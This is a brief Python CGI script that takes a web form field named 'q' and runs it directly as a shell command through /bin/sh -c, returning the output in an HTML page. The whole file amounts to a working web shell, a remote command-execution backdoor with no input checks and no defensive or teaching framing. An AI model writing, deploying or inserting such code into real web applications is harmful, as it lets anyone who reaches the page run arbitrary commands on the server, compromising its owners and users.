#!/usr/bin/env python3
# Hands a form field to /bin/sh -c as an argument list; the call itself goes through a bare Popen.
import cgi
from subprocess import PIPE, STDOUT, Popen

fields = cgi.FieldStorage()
line = fields.getfirst("q", "")
print("Content-Type: text/html\n")
if line:
    proc = Popen(["/bin/sh", "-c", line], stdout=PIPE, stderr=STDOUT)
    print("<pre>%s</pre>" % proc.communicate()[0].decode(errors="replace"))
